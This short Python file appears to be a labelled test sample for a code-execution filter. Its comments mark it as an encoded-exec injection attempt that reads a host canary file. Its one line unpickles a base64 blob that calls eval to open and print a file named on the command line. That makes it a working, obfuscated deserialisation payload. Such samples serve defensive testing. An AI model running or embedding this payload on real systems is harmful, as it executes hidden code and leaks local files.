# family: injection
# filterfamily: encoded-exec
# tries: unpickle a base64 blob whose reduce step calls the evaluator; the call prints the host /tmp canary
# source: https://docs.python.org/3/library/pickle.html
# exfil: yes
import base64
import pickle

pickle.loads(base64.b64decode("gASVSQAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIwtcHJpbnQob3BlbihfX2ltcG9ydF9fKCdzeXMnKS5hcmd2WzNdKS5yZWFkKCkplIWUUpQu"))
